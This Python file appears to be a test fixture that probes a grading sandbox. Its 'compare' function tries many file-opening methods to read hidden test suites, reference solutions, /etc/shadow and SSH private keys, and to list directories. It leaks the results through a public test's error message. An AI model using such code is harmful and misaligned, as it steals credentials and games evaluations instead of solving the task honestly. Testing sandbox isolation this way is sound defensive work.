"""Reads the hidden suites, the solutions, the public checks and the system's files, in every way there is to open one,
and puts what it finds into the message of a public test."""
# expect: compare=wrong *=not_attempted
import ctypes
import glob
import io
import linecache
import mmap
import os
import pathlib
import sys

import numpy
import torch

ROOT = os.path.dirname(os.path.dirname(sys.modules["grader.sandbox"].__file__))
FILES = [
    f"{ROOT}/tests/hidden/test_hidden_6_compare.py", f"{ROOT}/tests/hidden/test_hidden_4_greedy_generate.py",
    f"{ROOT}/tests/hidden/conftest.py", f"{ROOT}/solutions/unpacking_pipeline.py", f"{ROOT}/exercises/test_6_compare.py",
    f"{ROOT}/grader/inputs.py", f"{ROOT}/exercises/pocket/corpus.py", f"{ROOT}/README.md", f"{ROOT}/.git/HEAD",
    "/etc/passwd", "/etc/shadow", "/etc/hostname", "/root/.bashrc", "/root/.ssh/id_rsa", "/proc/version",
]  # fmt: skip


def compare(emb1, emb2):
    libc = ctypes.CDLL(None)
    libc.fopen.restype = ctypes.c_void_p
    found = []
    for file in FILES:
        for way in (
            lambda: open(file).read(),
            lambda: os.read(os.open(file, os.O_RDONLY), 4000),
            lambda: io.open_code(file).read(),
            lambda: pathlib.Path(file).read_text(),
            lambda: numpy.fromfile(file, "uint8").tobytes(),
            lambda: torch.load(file),
            lambda: mmap.mmap(os.open(file, os.O_RDONLY), 0, prot=mmap.PROT_READ)[:],
            lambda: os.open(file, os.O_PATH) and "O_PATH" * 0,
            lambda: "".join(linecache.getlines(file)),
            lambda: libc.fopen(file.encode(), b"r"),
            lambda: os.open(f"/proc/self/root{file}", os.O_RDONLY),
            lambda: open(f"{os.path.dirname(os.__file__)}/../../../../../../../../..{file}").read(),
        ):
            try:
                content = way()
            except (OSError, ValueError):
                continue
            if content:
                found.append(f"BREACH {file}: {content}")
    for folder in (ROOT, f"{ROOT}/tests/hidden", "/root", "/tmp", "/home", "/"):
        names = glob.glob(f"{folder}/*") + [each for _, _, files in os.walk(folder) for each in files]
        try:
            names += os.listdir(folder)
        except OSError:
            pass
        found += [f"BREACH {folder}: {names}"] if names else []
    if found:
        raise ValueError("\n".join(found))
    return 7.5
